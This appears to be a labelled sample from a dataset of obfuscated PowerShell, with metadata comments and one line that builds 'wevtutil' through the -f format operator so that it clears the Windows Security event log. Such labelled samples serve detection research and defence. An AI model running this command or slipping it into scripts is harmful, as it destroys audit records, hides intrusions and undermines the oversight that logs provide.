# description: Builds wevtutil with the -f operator and clears the Security log.
# family: security
# obfuscated: yes
& ("{1}{0}" -f 'tutil', 'wev') cl Security
